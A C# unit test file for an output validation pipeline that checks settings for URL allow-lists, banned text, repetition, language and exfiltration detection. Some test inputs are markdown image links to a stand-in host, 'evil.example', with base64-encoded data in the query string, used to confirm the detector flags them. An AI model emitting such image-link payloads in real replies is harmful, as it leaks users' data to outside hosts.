using Hymba.Validation.Banned;
using Hymba.Validation.Exfiltration;
using Hymba.Validation.Policies;
using Hymba.Validation.Tests.Fakes;
using Hymba.Validation.Urls;
using Microsoft.Extensions.Configuration;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Options;

namespace Hymba.Validation.Tests.Policies;

/// <summary>Settings of validators in the options of the pipeline.</summary>
public sealed class SettingsTests
{
    [Fact]
    public void All_errors_come_together()
    {
        var options = new OutputValidationOptions { MaxRetries = 9 };
        Add(options.Urls.AllowList, "example.com", "https://example.com/a", "10.0.0.0/8", " ", "10.0.0.1/99");
        Add(options.Urls.AllowedSchemes, "http", "ht tp");
        Add(options.Banned.Substrings, "");
        Add(options.Banned.Patterns, "a+", "(", "(?=a)b");
        Add(options.Exfiltration.AllowedHosts, "cdn.example.com", "https://x.example/");
        options.Repetition.MaxWords = -1;
        options.Repetition.MaxRepetitionRatio = double.NaN;
        options.Repetition.GroupWords = 0;
        Add(options.Languages, "de", "xx");
        var error = Assert.Throws<OptionsValidationException>(() => Pipelines.Make(options, []));
        var failures = error.Failures.ToList();
        Assert.Equal(
            [
                "MaxRetries is 9; it must be from 0 to 5.",
                "Urls.AllowList[3] is ' '; it must be a host, an address, a network as its first address and length, or a URL.",
                "Urls.AllowList[4] is '10.0.0.1/99'; it must be a host, an address, a network as its first address and length, or a URL.",
                "Urls.AllowedSchemes[2] is 'ht tp'; it must be a scheme, such as https.",
                "Banned.Substrings[0] is ''; it must be some text.",
            ],
            failures.Take(5));
        Assert.StartsWith("Banned.Patterns[1] is '('; it must be a regular expression for linear time: ", failures[5], StringComparison.Ordinal);
        Assert.StartsWith("Banned.Patterns[2] is '(?=a)b'; ", failures[6], StringComparison.Ordinal);
        Assert.Equal(
            [
                "Exfiltration.AllowedHosts[1] is 'https://x.example/'; it must be a host name or address alone.",
                "Repetition.MaxWords is -1; it must be at least 0.",
                "Repetition.MaxRepetitionRatio is NaN; it must be at least 0.",
                "Repetition.GroupWords is 0; it must be at least 1.",
            ],
            failures[7..11]);
        Assert.StartsWith("Languages[1] is 'xx'; it must be one of en, de, ", Assert.Single(failures[11..]), StringComparison.Ordinal);
    }

    [Fact]
    public async Task They_come_from_configuration_and_follow_it()
    {
        var configuration = new ConfigurationBuilder().AddInMemoryCollection(new Dictionary<string, string?>
        {
            ["Banned:Substrings:0"] = "blue moon",
            ["Repetition:MaxWords"] = "6",
            ["Exfiltration:AllowedHosts:0"] = "good.example",
            ["Languages:0"] = "de",
        }).Build();
        using var services = new ServiceCollection().AddOutputValidation(section: configuration).BuildServiceProvider();
        var pipeline = services.GetRequiredService<ValidationPipeline>();
        async Task<string[]> RulesAsync(string text)
            => [.. (await pipeline.ValidateAsync(text, Pipelines.Reply)).Findings.Select(finding => finding.Finding.Rule).Where(rule => rule != "pii.url").Distinct()];

        Assert.Contains("banned.substring", await RulesAsync("a blue moon"));
        Assert.Contains("repetition.size", await RulesAsync("one two three four five six seven"));
        Assert.Contains("language.unexpected", await RulesAsync("This is what they have been waiting for."));
        Assert.Empty(await RulesAsync("https://evil.example/a"));
        Assert.DoesNotContain(await RulesAsync("![x](https://good.example/p.png?d=c2VjcmV0)"), IsExfiltration);
        Assert.Contains(await RulesAsync("![x](https://evil.example/p.png?d=c2VjcmV0)"), IsExfiltration);

        configuration["Banned:Substrings:0"] = "red moon";
        configuration["Urls:AllowList:0"] = "good.example";
        configuration.Reload();
        Assert.DoesNotContain("banned.substring", await RulesAsync("a blue moon"));
        Assert.Contains("banned.substring", await RulesAsync("a red moon"));
        Assert.Equal(["urls.host"], await RulesAsync("https://evil.example/a"));
        Assert.Empty(await RulesAsync("https://good.example/a"));

        configuration["Repetition:MaxWords"] = "-5";
        Record.Exception(configuration.Reload);
        Assert.Contains("banned.substring", await RulesAsync("a red moon"));
    }

    [Fact]
    public async Task A_validator_with_settings_of_its_own_keeps_them_and_none_runs_twice()
    {
        var options = Pipelines.Options();
        Add(options.Urls.AllowList, "good.example");
        Add(options.Exfiltration.AllowedHosts, "good.example");
        Add(options.Banned.Substrings, "moon");
        ITextValidator[] own = [new UrlValidator(), new ExfiltrationValidator(new ExfiltrationOptions())];
        const string Text = "moon https://evil.example/a ![x](https://good.example/p.png?d=c2VjcmV0)";
        var result = await Pipelines.Make(options, own).ValidateAsync(Text, Pipelines.Reply);
        Assert.Equal(
            ["banned.substring", "exfiltration", "urls.host"],
            result.Findings.Select(finding => finding.Finding.Rule).Select(rule => IsExfiltration(rule) ? "exfiltration" : rule)
                .Order(StringComparer.Ordinal));
    }

    [Fact]
    public void A_policy_may_name_rules_whose_validator_has_no_settings_yet()
    {
        var options = Pipelines.Options(Pipelines.On("urls.host", ValidationAction.Block), Pipelines.On(RuleIds()[0], ValidationAction.Block));
        Assert.NotNull(Pipelines.Make(options, []));
    }

    private static bool IsExfiltration(string rule) => rule.StartsWith("exfiltration.", StringComparison.Ordinal);

    private static string[] RuleIds() => [.. new BannedTextValidator(new BannedTextOptions()).Rules];

    private static void Add(IList<string> list, params string[] values)
    {
        foreach (var value in values)
        {
            list.Add(value);
        }
    }
}
